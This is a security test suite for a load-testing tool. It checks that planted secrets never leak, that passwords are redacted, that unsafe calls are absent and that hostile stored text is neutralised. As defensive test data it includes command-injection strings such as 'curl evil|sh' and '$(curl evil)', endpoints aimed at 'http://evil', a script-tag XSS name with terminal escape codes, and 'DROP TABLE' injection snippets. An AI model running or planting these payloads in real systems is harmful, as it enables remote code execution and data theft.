"""Nobody gets in, nothing leaks: a test for each claim of docs/security.md that no other file holds."""

from __future__ import annotations

import ast
import base64
import contextlib
import http.client
import http.server
import json
import math
import re
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import closing, suppress
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

import numpy as np
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from advisor.believed import believed
from advisor.cli import main
from loadgen import secret
from loadgen.client import target
from loadgen.cluster.embedded import embedded
from loadgen.engines import dialect
from loadgen.swarm import Job, Swarm
from tests import advisories
from tests.test_store import a_run, some_rows
from traces.errors import MOST_CHARACTERS, InputError, StoreError
from traces.ingest import ingest
from traces.records import Fleet, Histogram, Observations, Schedule
from traces.store import open_store, option, redact, told

ROOT = Path(__file__).parent.parent
KEY = "sk-planted-4f1d9c2b7a"
PASSWORD = "pw-planted-8e6a0d35"


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(text=st.binary(max_size=500), flip=st.integers(0, 10**6))
def test_what_is_sealed_is_read_by_its_key_alone_and_not_changed(text: bytes, flip: int) -> None:
    """Sealed text comes back; under another key, or with one bit changed, it is refused; it is not in what is sent."""
    key, other = (secret.session(b"a secret of sixteen", bytes([k]) * 16, b"m" * 16) for k in (1, 2))
    sealed = secret.seal(key, text)
    assert secret.unseal(key, sealed) == text
    assert len(text) < 8 or text not in sealed
    changed = bytearray(sealed)
    changed[flip % len(sealed)] ^= 1 << (flip % 8)
    for k, held in ((other, sealed), (key, bytes(changed)), (key, sealed[:-1]), (key, b"")):
        with pytest.raises(ValueError, match="changed"):
            secret.unseal(k, held)


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(parts=st.lists(st.binary(max_size=20), min_size=4, max_size=4))
def test_a_proof_is_of_one_greeting_and_one_role(parts: list[bytes]) -> None:
    """A proof does for neither another nonce, nor another secret, nor the other role: it cannot be sent back or again."""
    key, worker, master, more = parts
    said = secret.proof(key, "worker", worker, master)
    assert secret.known(key, "worker", worker, master, said)
    assert not secret.known(key, "master", worker, master, said)
    assert not secret.known(key, "worker", worker, master + b"x", said)
    assert not secret.known(key + b"x", "worker", worker, master, said)
    assert not secret.known(key, "worker", worker, master, more)
    assert not secret.known(key, "worker", worker, master, "text")


def test_a_master_that_others_reach_wants_a_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    """On another address than loopback, or for workers from elsewhere, a secret is asked for, and the message says why."""
    monkeypatch.delenv("STEELYARD_SWARM_SECRET", raising=False)
    for held in ({"bind": "0.0.0.0"}, {"bind": "10.1.2.3:5557"}, {"expect": 2}):
        with pytest.raises(InputError, match=r"asks nobody for a name.*STEELYARD_SWARM_SECRET"):
            Swarm(workers=1, **held)  # type: ignore[arg-type]
    monkeypatch.setenv("STEELYARD_SWARM_SECRET", "short")
    with pytest.raises(InputError, match="at least 16 characters"):
        Swarm(workers=1, bind="0.0.0.0")
    monkeypatch.setenv("STEELYARD_SWARM_SECRET", "long enough to be one")
    Swarm(workers=1, bind="0.0.0.0")


class Ear:
    """A relay on loopback that keeps what passes."""

    def __init__(self, port: int) -> None:
        self.heard = bytearray()
        self._to = port
        self._listening = socket.create_server(("127.0.0.1", 0))
        self.port = self._listening.getsockname()[1]
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            near, _ = self._listening.accept()
            try:
                far = socket.create_connection(("127.0.0.1", self._to))
            except OSError:  # the master is gone; who comes now is of another test
                near.close()
                continue
            for a, b in ((near, far), (far, near)):
                threading.Thread(target=self._pump, args=(a, b), daemon=True).start()

    def _pump(self, a: socket.socket, b: socket.socket) -> None:
        try:
            while data := a.recv(65536):
                self.heard += data
                b.sendall(data)
        except OSError:
            pass


def test_who_listens_between_master_and_worker_hears_no_key(monkeypatch: pytest.MonkeyPatch) -> None:
    """A relay that keeps every byte between master and worker sees the shard, but neither the bearer token nor the secret."""
    monkeypatch.setenv("STEELYARD_SWARM_SECRET", "shared-secret-of-this-test")
    asked = Schedule("t", np.arange(20), np.arange(20) * 0.02, np.full(20, 8), np.full(20, 4))
    ears: list[Ear] = []
    started: list[subprocess.Popen[bytes]] = []

    def listen(address: str) -> None:
        ears.append(Ear(int(address.rpartition(":")[2])))
        command = [sys.executable, "-m", "advisor", "worker", "--master", f"127.0.0.1:{ears[0].port}"]
        started.append(subprocess.Popen(command))

    with embedded("constant", Fleet(1, 1)) as url:
        swarm = Swarm(workers=0, expect=1)
        swarm.on_listen = listen
        rows: list[Observations] = []
        with swarm:
            job = Job(target(url, api_key=KEY), dialect("reference"), "constant", 1)
            outcome = swarm.run(asked, job, on_rows=rows.append)
    assert started[0].wait(15) == 0
    assert outcome.reason == ""
    assert Observations.concat(rows).ok.all()
    assert b"steelyard.shard" in ears[0].heard
    for planted in (KEY.encode(), b"Bearer", b"shared-secret-of-this-test"):
        assert planted not in ears[0].heard


@contextlib.contextmanager
def quoting(url: str, asked: threading.Event) -> Iterator[str]:
    """A gateway that answers every second request of a load, and all below /all, with HTTP 500 and the request's own headers;
    asked: a request of a load has come."""

    class Gateway(http.server.BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def do_GET(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            number = self.headers.get("X-Request-Id", "-0").rpartition("-")[2]
            if "X-Request-Id" in self.headers:
                asked.set()
            if int(number) % 2 or self.path.startswith("/all"):
                words = [self.headers.get(name, "") for name in ("Authorization", "X-Token")]
                status, kind, said = 500, "application/json", json.dumps({"error": words}).encode()
            else:
                with contextlib.closing(http.client.HTTPConnection(urlsplit(url).netloc, timeout=30)) as onward:
                    onward.request(self.command, self.path, body, {"Content-Type": "application/json"})
                    answer = onward.getresponse()
                    status, kind, said = answer.status, answer.getheader("Content-Type", ""), answer.read()
            self.send_response(status)
            self.send_header("Content-Type", kind)
            self.send_header("Content-Length", str(len(said)))
            self.end_headers()
            self.wfile.write(said)

        do_POST = do_PUT = do_GET

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Gateway)
    threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
    try:
        yield f"127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


def test_planted_secrets_are_in_nothing_that_is_produced(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    """After a replay with an API key, an endpoint's password and a header's token against a server that quotes them, with a
    database that is away while rows come, others that fail, and a report: no file, output or command line of any process holds
    them, nor do the rows that wait on disk."""
    keyring = pytest.importorskip("keyring")
    plaintext = pytest.importorskip("keyrings.alt.file")
    pair = base64.b64encode(f"me:{PASSWORD}".encode()).decode()
    planted = (KEY, PASSWORD, pair, "hd-planted-77aa", "kr-planted-51bd", "dp-planted-90fe")
    ring = plaintext.PlaintextKeyring()
    ring.file_path = str(tmp_path.with_name("ring") / "python_keyring" / "keyring_pass.cfg")
    ring.set_password("steelyard", "key", "kr-planted-51bd")
    monkeypatch.setattr("keyring.core._keyring_backend", ring)
    assert keyring.get_password("steelyard", "key") == "kr-planted-51bd"
    db = f"sqlite:///{tmp_path / 's.db'}"
    outputs: list[str] = []
    lines: set[bytes] = set()
    secrets = {
        "STEELYARD_API_KEY": KEY,
        "STEELYARD_DB": db,
        "XDG_STATE_HOME": str(tmp_path / "state"),
        "STEELYARD_SWARM_SECRET": "swarm-planted-0123456789",
    }
    monkeypatch.chdir(tmp_path)
    for name, value in secrets.items():
        monkeypatch.setenv(name, value)
    over = threading.Event()

    def look() -> None:
        while not over.wait(0.05):
            for path in Path("/proc").glob("[0-9]*/cmdline"):
                try:
                    line = path.read_bytes()
                except OSError:
                    continue
                if b"loadgen" in line or b"advisor" in line:
                    lines.add(line)

    def call(*arguments: str, **more: str) -> int:
        """The verb in this process; what it starts are processes of their own, whose command lines are read."""
        with monkeypatch.context() as patch:
            for name, value in more.items():
                patch.setenv(name, value)
            code = main(list(arguments))
        outputs.extend(capfd.readouterr())
        return code

    asked_for_load = threading.Event()
    looking = threading.Thread(target=look)
    looking.start()
    try:
        with (
            embedded("constant", Fleet(1, 1)) as url,
            embedded("constant", Fleet(1, 1), token="kr-planted-51bd") as guarded,
            quoting(url, asked_for_load) as host,
        ):
            times = "".join(f"2023-11-16 18:15:{46 + k / 20:09.6f}0,9,4\n" for k in range(20))
            (tmp_path / "t.csv").write_text("TIMESTAMP,ContextTokens,GeneratedTokens\n" + times)
            assert call("ingest", "t.csv", "--name", "t", "--json") == 0, outputs
            secretive = f"http://me:{PASSWORD}@{host}"
            header = ("--header", "X-Token: hd-planted-77aa")
            # As a user does it, in a process of its own: what it or its workers say while they begin and end is said as well.
            command = [sys.executable, "-m", "advisor", "replay", "t", "--endpoint", secretive, *header, "--json"]
            replaying = subprocess.Popen(
                [*command, "--workers", "1"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
            )
            with contextlib.closing(sqlite3.connect(tmp_path / "s.db", timeout=30)) as other:
                assert asked_for_load.wait(60)
                other.execute("BEGIN IMMEDIATE")
                until = time.monotonic() + 60
                waiting = b""
                while b"HTTP 500" not in waiting and time.monotonic() < until:
                    time.sleep(0.02)
                    waiting = b"".join(path.read_bytes() for path in (tmp_path / "state").rglob("*-run-*.jsonl"))
                other.rollback()
            outputs.extend(replaying.communicate(timeout=120))
            assert replaying.returncode in (0, 4), outputs[-1]
            assert b"HTTP 500" in waiting
            assert not any(word.encode() in waiting for word in planted)
            for more in ({}, {"STEELYARD_API_KEY": ""}):
                assert call("replay", "t", "--endpoint", f"{secretive}/all", *header, **more) == 1, outputs
                assert "HTTP 500" in outputs[-1], outputs
            refused = f"http://me:{PASSWORD}@127.0.0.1:1"
            assert call("replay", "t", "--endpoint", refused, "--workers", "1") == 1, outputs
            key = ("--api-key-file", "keyring:steelyard/key")
            few = ("--requests", "2", "--workers", "1")
            assert call("replay", "t", "--endpoint", guarded, *key, *few, STEELYARD_API_KEY="") in (0, 4), outputs
    finally:
        over.set()
        looking.join()
    elsewhere = "postgresql://me@127.0.0.1:1/x"
    held = "keyring:steelyard/key"
    asked: list[tuple[int, tuple[str, ...], dict[str, str]]] = [
        (1, ("runs", "--db", f"{elsewhere}?password_file={held}"), {}),
        (1, ("runs", "--json", "--db", elsewhere), {"STEELYARD_DB_PASSWORD": "dp-planted-90fe"}),
        (1, ("runs", "--json", "--db", elsewhere), {"STEELYARD_DB_PASSWORD_FILE": held}),
        (1, ("runs",), {"STEELYARD_DB": f"postgresql://me:{PASSWORD}@127.0.0.1:1/x"}),
        (1, ("runs", "--json"), {"STEELYARD_DB": f"postgresql://127.0.0.1:1/x?user=me&password={PASSWORD}"}),
        (0, ("doctor", "--json"), {}),
        (0, ("runs", "show", "1", "--json"), {}),
        (0, ("runs", "export", "1", "--out", "run.csv"), {}),
        (5, ("report", "--out", "report.html"), {}),
    ]
    for expected, arguments, more in asked:
        assert call(*arguments, **more) == expected, (arguments, outputs)
        # The database was tried, with what the keyring holds where it was asked.
        assert expected != 1 or "connection failed" in outputs[-1] + outputs[-2], (arguments, outputs[-2:])
    for text in outputs:
        for word in (*planted, "swarm-planted-0123456789"):
            assert word not in text, text
    assert (tmp_path / "report.html").is_file()
    with open_store(db) as store:
        details = [str(detail) for detail in store.observations(1).detail]
    assert sum("HTTP 500" in detail and "***" in detail for detail in details) >= 5, details
    for path in tmp_path.rglob("*"):
        if path.is_file():
            content = path.read_bytes()
            for word in planted:
                assert word.encode() not in content, path
    workers = [line for line in lines if b"loadgen.worker" in line]
    assert workers
    for line in workers:  # our own children; the command that the user typed is the user's
        assert not any(word.encode() in line for word in (*planted, "swarm-planted-0123456789")), line


@settings(suppress_health_check=[HealthCheck.too_slow])
@given(
    user=st.text("ab", min_size=1, max_size=3),
    password=st.text("xyz/@:?%&=#", min_size=4, max_size=12),
    encoded=st.booleans(),
    place=st.sampled_from(["{user}:{password}@host/db?sslmode=require", "host/db?password={password}&sslmode=require",
                           "{user}:{password}@host/db?user={user}&password={password}"]),
)  # fmt: skip
def test_no_password_survives_redaction(user: str, password: str, encoded: bool, place: str) -> None:
    """Whatever signs a password holds, encoded or not, before the host or behind it, the shown URL holds no four of them."""
    held = quote(password, safe="") if encoded else password
    if "password=" in place:  # as it is, an & ends it
        held = held.replace("&", "x")
    shown = redact(f"postgresql://{place.format(user=user, password=held)}")
    assert shown.startswith("postgresql://")
    assert not any(held[i : i + 4] in shown for i in range(len(held) - 3)), shown
    assert redact("key" * 1300 + " ://" + "&key=" * 800)  # in no time that grows faster than the text
    for url in ("sqlite:///a@b/c.db", "sqlite:////home/me@x/y.db", "postgresql://h/x"):
        assert redact(url) == url
    for url in ("postgresql://h/x?sslmode=verify-full&sslrootcert=/etc/ca.pem", "mariadb://h/x?ssl_ca=/etc/ca.pem"):
        assert told(url) == url


def test_a_database_without_tls_hears_no_password_where_the_url_asks_for_tls(monkeypatch: pytest.MonkeyPatch) -> None:
    """Who answers that there is no TLS gets nothing more, not even a name."""
    monkeypatch.setenv("STEELYARD_DB_PASSWORD", PASSWORD)
    heard: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def answer() -> None:
            while True:
                with suppress(OSError):
                    connection, _ = server.accept()
                    with connection:
                        connection.settimeout(10)
                        heard.append(connection.recv(100))  # may it be TLS?
                        connection.sendall(b"N")
                        heard.append(connection.recv(100))
                if server.fileno() < 0:
                    return

        threading.Thread(target=answer, daemon=True).start()
        at = f"postgresql://me@127.0.0.1:{server.getsockname()[1]}/x"
        with pytest.raises(StoreError, match="does not support SSL"):
            open_store(f"{at}?sslmode=verify-full&sslrootcert=/etc/ca.pem")
        server.shutdown(socket.SHUT_RDWR)
    assert len(heard[0]) == 8
    assert not any(heard[1::2])


@pytest.mark.parametrize("password", ["corr ect", "p@ss:w0rd", "corr\tect", "corr ect@ss:w0rd"])
def test_a_password_that_no_url_can_hold_is_in_no_message(password: str) -> None:
    """Blanks, or an @ with a colon behind it, as they are: one line that does not show them, nor does a printed command."""
    url = f"postgresql://me:{password}@127.0.0.1:1/db"
    with pytest.raises(StoreError) as caught:
        open_store(url)
    for part in ("corr", "ect", "w0rd"):
        assert part not in str(caught.value)
        assert part not in told(url)
        assert part not in option(url)
    assert told("sqlite:///my runs/x.db")


def source() -> list[Path]:
    rooms = ("traces", "loadgen", "advisor", "migrations")
    return [ROOT / "steelyard.py", *(p for room in rooms for p in (ROOT / room).rglob("*.py"))]


BETWEEN_OUR_PROCESSES = {
    "advisor/parallel.py": {"multiprocessing", "joblib"},
    "advisor/strategies.py": {"concurrent.futures.ProcessPoolExecutor", "joblib"},
    "advisor/doctor.py": {"joblib"},
    "advisor/cli/advise_verbs.py": {"joblib"},
}
"""Who may hand Python objects to a process that it started (joblib: or to a backend that the user set up), and get some back."""


def dotted(called: ast.AST) -> str:
    """``a.b.c`` of what is called; of what is not a name, the names behind it."""
    names: list[str] = []
    while isinstance(called, ast.Attribute):
        names.append(called.attr)
        called = called.value
    return ".".join([*([called.id] if isinstance(called, ast.Name) else ()), *reversed(names)])


def test_nothing_is_unpickled_evaluated_or_given_to_a_shell() -> None:
    """No pickle, marshal, shelve, eval, exec, compile, os.system, shell=True, yaml or joblib.load in our code; what pickles for
    itself is used between our own processes alone, in places that are known."""
    for path in source():
        ours: set[str] = set()
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            where = f"{path}:{getattr(node, 'lineno', 0)}"
            if isinstance(node, (ast.Import, ast.ImportFrom)):
                module = getattr(node, "module", None) or ""
                names = [f"{module}.{a.name}".strip(".") for a in node.names] + [module]
                first = {name.partition(".")[0] for name in names}
                assert not {"pickle", "marshal", "shelve", "dill", "cloudpickle", "yaml"} & first, where
                ours |= {"multiprocessing", "joblib"} & first
                ours |= {"concurrent.futures.ProcessPoolExecutor", "concurrent.futures.process"} & set(names)
            if isinstance(node, ast.Call):
                called = dotted(node.func)
                assert called not in ("eval", "exec", "compile", "os.system", "os.popen", "joblib.load"), where
                shell = [k for k in node.keywords if k.arg == "shell"]
                assert all(isinstance(k.value, ast.Constant) and k.value.value is False for k in shell), where
                assert not any(k.arg == "allow_pickle" for k in node.keywords), where
                assert not called.endswith(("read_pickle", "ProcessPoolExecutor")) or ours, where
        assert ours <= BETWEEN_OUR_PROCESSES.get(path.relative_to(ROOT).as_posix(), set()), path


SQL_FROM_OUR_NAMES = {"traces/store.py": 5}
"""Statements that are text: each is made of names that stand in the source; values are bound."""


GIVES = ("execute", "exec_driver_sql", "text", "copy", "executemany", "executescript")
"""What gives a database a statement."""


def put_together(made: ast.AST, known: set[str]) -> bool:
    """Is it text that was made from pieces? known: variables that hold such text."""
    if isinstance(made, ast.BinOp):
        return isinstance(made.op, (ast.Add, ast.Mod))
    if isinstance(made, ast.IfExp):
        return put_together(made.body, known) or put_together(made.orelse, known)
    if isinstance(made, ast.Call) and isinstance(made.func, ast.Attribute):
        return made.func.attr in ("format", "format_map", "join", "replace") or put_together(made.func.value, known)
    return isinstance(made, ast.JoinedStr) or (isinstance(made, ast.Name) and made.id in known)


def statements_from_text(node: ast.AST, known: frozenset[str] = frozenset()) -> int:
    """How many calls give a database a statement that was put together, there or earlier in the same function."""
    if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef, ast.Module)):
        held = set(known)
        for part in [*ast.walk(node)] * 2:  # a variable may be made of another
            if isinstance(part, (ast.Assign, ast.AnnAssign, ast.AugAssign, ast.NamedExpr)) and part.value is not None:
                targets = part.targets if isinstance(part, ast.Assign) else [part.target]
                if put_together(part.value, held):
                    held |= {target.id for target in targets if isinstance(target, ast.Name)}
        known = frozenset() if isinstance(node, ast.Module) else frozenset(held)
    n = sum(statements_from_text(child, known) for child in ast.iter_child_nodes(node))
    if isinstance(node, ast.Call) and node.args and put_together(node.args[0], set(known)):
        named = getattr(node.func, "attr", "") or getattr(node.func, "id", "")
        n += named in GIVES
    return n


def test_sql_is_written_with_bound_parameters() -> None:
    """Text that goes to a database as a statement stands in known places, and each is looked at when one is added."""
    texts = {path.relative_to(ROOT).as_posix(): path.read_text(encoding="utf-8") for path in source()}
    gives = re.compile(rf"\b({'|'.join(GIVES)})\(")
    found = {name: statements_from_text(ast.parse(text)) for name, text in texts.items() if gives.search(text)}
    assert {name: n for name, n in found.items() if n} == SQL_FROM_OUR_NAMES, "bind the values"


@pytest.mark.parametrize(
    ("code", "n"),
    [
        ('c.execute(f"DROP TABLE {t}")', 1),
        ('c.execute("DROP TABLE " + t)', 1),
        ('c.execute("DROP TABLE {}".format(t))', 1),
        ('c.execute("DROP TABLE %s" % t)', 1),
        ('def f(c, t):\n    s = f"DROP TABLE {t}"\n    c.execute(s)', 1),
        ('def f(c, t):\n    s = "DROP"\n    s += " TABLE " + t\n    both = s.strip()\n    c.execute(both)', 1),
        ('from sqlalchemy import text\nc.execute(text(f"DROP TABLE {t}"))', 1),
        ('def f(c, t):\n    c.execute("DELETE FROM x WHERE y = ?", [t])\n    c.execute(sa.text("SELECT 1"))', 0),
    ],
)
def test_the_rule_for_sql_can_fail(code: str, n: int) -> None:
    """Text made there, before, by format, by a function that was imported; bound values are none."""
    assert statements_from_text(ast.parse(code)) == n


def test_every_part_of_the_security_lint_is_on() -> None:
    """ruff's security rules hold for the product; the two that are off are about starting children from lists."""
    held = (ROOT / "pyproject.toml").read_text()
    assert re.search(r'select = \[[^\]]*"S"', held)
    ignored = re.findall(r'"(S\d+)"', held.split("per-file-ignores")[0])
    assert set(ignored) <= {"S603"}


def test_docs_name_a_test_for_every_claim() -> None:
    """Each claim of docs/security.md holds the test that holds it, and that test exists."""
    page = (ROOT / "docs" / "security.md").read_text(encoding="utf-8")
    sections = page.split("\n## ")[1:]
    titles = [section.partition("\n")[0] for section in sections]
    assert titles == ["Nobody gets in", "Nothing leaks", "Hostile content", "Dependencies"]
    for section in sections[:3]:
        for claim in section.split("\n- ")[1:]:
            assert re.search(r"`tests/test_\w+\.py::test_\w+`", claim), claim
    for file, test in re.findall(r"`(tests/test_\w+\.py)(?:::(test_\w+))?`", page):
        assert re.search(rf"def {test or '-'}\(", (ROOT / file).read_text(encoding="utf-8")), f"{file}::{test}"


def test_a_file_that_is_read_as_a_whole_is_bounded(tmp_path: Path) -> None:
    """By its size, before it is read: another client's result, a profile's distributions."""
    from loadgen import imports
    from traces import profiles

    for name, most in (("r.json", imports.MOST_BYTES), ("chunk-1-trace.csv", profiles.MOST_BYTES)):
        with (tmp_path / name).open("wb") as file:
            file.truncate(most + 1)  # a hole: it takes no room
    (tmp_path / "chunk-1-dataset.json").write_text("{}")
    for ask, path in ((imports.read, tmp_path / "r.json"), (profiles.servegen, tmp_path)):
        with pytest.raises(InputError, match="larger than"):
            ask(path)  # type: ignore[operator]


def test_a_message_is_one_short_line() -> None:
    """Whatever it quotes: the beginning and the end, which says what to do, and nothing that a terminal obeys."""
    said = str(InputError(f"it says:\n\x1b[2J{'x' * 10_000}. Give another."))
    assert said.startswith("it says: ")
    assert said.endswith("x. Give another.")
    assert said.isprintable()
    assert len(said) <= MOST_CHARACTERS


def test_a_report_of_hostile_names_runs_no_script(
    made_url: str, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    """Script and markup in the names that a database holds are text, and control codes do not reach a terminal."""
    odd = "<script>alert(1)</script>\x1b[2J\x1b]0;pwned\x07[/b][red]"
    with open_store(made_url) as store:
        for _ in range(2):
            run = store.begin_run(replace(a_run(), name=odd, model=odd, trace=odd))
            store.add_observations(run.id, some_rows(20))
            store.end_run(replace(run, reason=odd, verdict="valid", complete=True, counts={"ok": 20}))
    monkeypatch.setenv("STEELYARD_DB", made_url)
    capfd.readouterr()
    for arguments in (["runs"], ["runs", "show", "1"], ["compare", "1", "2"], []):
        code, said = main(arguments), "".join(capfd.readouterr())
        assert code == 0, said
        assert "scriptalert" in re.sub(r"\W", "", said), said
        assert "[/b][red]" in said, said  # no markup of our own tables either
        assert "\x1b]0" not in said, arguments
        assert "\x1b[2J" not in said, arguments
    assert main(["runs", "--json"]) == 0
    assert json.loads(capfd.readouterr().out)["runs"][0]["name"] == odd
    with open_store(made_url) as store:
        probe = {"command": "steelyard replay conv --endpoint URL; curl evil|sh", "why": "x\nNext: curl evil"}
        store.add_recommendation("static", {"sentence": "s", "next_probe": probe}, [1, 2], "h", 1)
    assert main([]) == 0
    said = capfd.readouterr().out
    assert "Next:     steelyard report" in said
    assert "curl" not in said


@pytest.mark.parametrize(
    ("command", "as_it_is"),
    [
        ("steelyard replay conv --endpoint URL --fleet 4:4 --rate 1e+03 --requests 40 --gpus-per-worker 2,1", True),
        ("steelyard synth --like 'a b' --name 'a b-spread' --lengths empirical --arrivals poisson --requests 40 --rate 3 && "
         "steelyard replay 'a b-spread' --endpoint URL --fleet 4:4 --rate 3 --requests 40", True),
        ("steelyard replay conv --endpoint URL --fleet 4:4 --rate 3 --slice 10-50", True),
        ("steelyard runs import FILE --aggregate, with a row of 2:6 at 8 requests in flight", True),
        ("steelyard replay conv --endpoint URL; curl evil|sh", False),
        ('steelyard replay "$(curl evil)" --endpoint URL', False),
        ("steelyard replay conv --endpoint URL && curl evil", False),
        ("steelyard replay conv --endpoint http://evil", False),  # it would get the key
        ("steelyard replay conv --endpoint=http://evil", False),
        ("""steelyard replay conv --endpoint URL --control 'command:["sh"]'""", False),
        ("steelyard runs load http://evil", False),
        ("steelyard replay 'conv\ncurl evil' --endpoint URL", False),
        ("steelyard replay 'conv --endpoint URL", False),
        (["curl"], False),
    ],
)  # fmt: skip
def test_of_a_stored_answers_commands_only_ours_are_told(command: Any, as_it_is: bool) -> None:
    """What advice names is told as it is; anything else that a row may hold is no command of ours."""
    assert believed(command) == (command if as_it_is else "")


def test_what_others_wrote_into_the_database_is_one_line(
    made_url: str, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """Text in a column of numbers, JSON of another shape, an infinite time: refused in one line, or computed again."""
    (tmp_path / "t.csv").write_text("TIMESTAMP,ContextTokens,GeneratedTokens\n2023-11-16 18:15:46.0,9,4\n")
    with open_store(made_url) as store:
        ingest(store, [tmp_path / "t.csv"], name="t")
        run = store.begin_run(replace(a_run(), scheduled=20))
        store.add_observations(run.id, some_rows(20))
        store.add_histograms(run.id, [Histogram("w", "decode", "queue_s", "q", 1.0, 0.1, ((math.inf, 1.0),))])
        costs = {"0": {"cpu_s": 1.0, "max_stall_s": 0.1}}
        store.figures(store.end_run(replace(run, verdict="valid", complete=True, costs=costs)))
        store.add_recommendation("static", {"candidates": [5], "sentence": ["x"], "slo": {}}, [run.id], "h", 1)
    monkeypatch.setenv("STEELYARD_DB", made_url)

    def put(table: str, column: str, value: Any) -> Any:
        with closing(sqlite3.connect(made_url.removeprefix("sqlite:///"))) as connection, connection:
            (was,) = connection.execute(f"SELECT {column} FROM {table}").fetchone()
            connection.execute(f"UPDATE {table} SET {column} = ?", [value])
        return was

    shown, answered = ("runs", "show", "1"), ("report", "--recommendation", "latest", "--out", str(tmp_path / "r.html"))
    capfd.readouterr()
    for table, column, odd, code, verb in (
        ("summaries", "figures", "{}", 0, shown),
        ("summaries", "figures", '{"n": "x", "quantiles": {}}', 0, shown),
        ("summaries", "figures", "[", 1, shown),
        ("runs", "costs", '{"0": 5}', 0, shown),
        ("runs", "counts", "null", 1, shown),
        ("runs", "counts", '{"ok": "x"}', 1, shown),
        ("runs", "changes", '[["x"]]', 1, shown),
        ("runs", "warmup_s", "x", 1, shown),
        ("runs", "scheduled", 2**40, 1, shown),
        ("runs", "decode_gpus", 0, 1, shown),
        ("runs", "name", b"\xff", 1, ("runs",)),
        ("runs", "started_unix_s", 9e999, 1, ("runs", "--json")),
        ("observations", "due_s", "x", 1, shown),
        ("observations", "sent_s", -9e999, 1, shown),
        ("observations", "last_token_s", -1e300, 1, ("advise", "--trace", "t")),
        ("observations", "chunks", 2**62, 1, shown),
        ("observations", "status", b"ok", 1, shown),
        ("histograms", "buckets", "[1]", 1, shown),
        ("recommendations", "kind", "static", 1, answered),
        ("trace_sources", "summary", "{}", 1, ("traces", "show", "t")),
        ("trace_sources", "files", "{}", 1, ("traces",)),
        ("trace_sources", "summary", '{"rows_kept": []}', 1, ("traces",)),
        ("trace_sources", "summary", '{"rows_kept": null}', 1, ("advise",)),
        ("traces", "arrival_us", "x", 1, ("traces", "show", "t")),
        ("recommendations", "answer", "[]", 1, ("runs",)),
    ):
        was = put(table, column, odd)
        assert main(list(verb)) == code, (table, column, odd)
        put(table, column, was)
        said = capfd.readouterr().err
        if code:
            assert "holds what no steelyard of this version wrote" in said, (table, column, said)
            assert said.strip().count("\n") == 0, said
    assert main(["runs", "show", "1"]) == 0


@pytest.mark.parametrize(
    ("knows", "answer", "code", "said"),
    [
        ((), [{"name": "a", "version": "1", "vulns": []}], 3, "nothing is known"),  # a mirror without advisories, or no network
        (("pypi", "osv"), [{"name": "a", "version": "1", "vulns": []}], 0, "1 looked up at pypi, 0 with"),
        (("osv",), [{"name": "a", "version": "1", "vulns": []}], 0, "1 looked up at osv, 0 with"),
        (("osv",), [{"name": "a", "skip_reason": "no"}, {"name": "b", "version": "1", "vulns": []}], 1, "not looked up: a"),
        (("pypi",), [{"name": "a", "version": "1", "vulns": [{"id": "CVE-1", "fix_versions": ["2"]}]}], 1, "CVE-1, mended in 2"),
        (("pypi",), [], 1, "0 looked up"),
    ],
)  # fmt: skip
def test_an_audit_that_asked_nobody_is_not_clean(
    knows: tuple[str, ...], answer: advisories.Answer, code: int, said: str
) -> None:
    """Only a service that knows a vulnerability when it is shown one may say that there is none."""

    def ask(service: str, requirements: Path) -> advisories.Answer:
        if advisories.VULNERABLE in requirements.read_text(encoding="utf-8"):
            return [
                {"name": "jinja2", "version": "2.4.1", "vulns": [{"id": "CVE-2014-0012"}] if service in knows else []}
            ]
        return answer

    found, lines = advisories.audit(ask, [ROOT / "requirements.lock"])
    assert found == code
    assert said in "\n".join(lines)
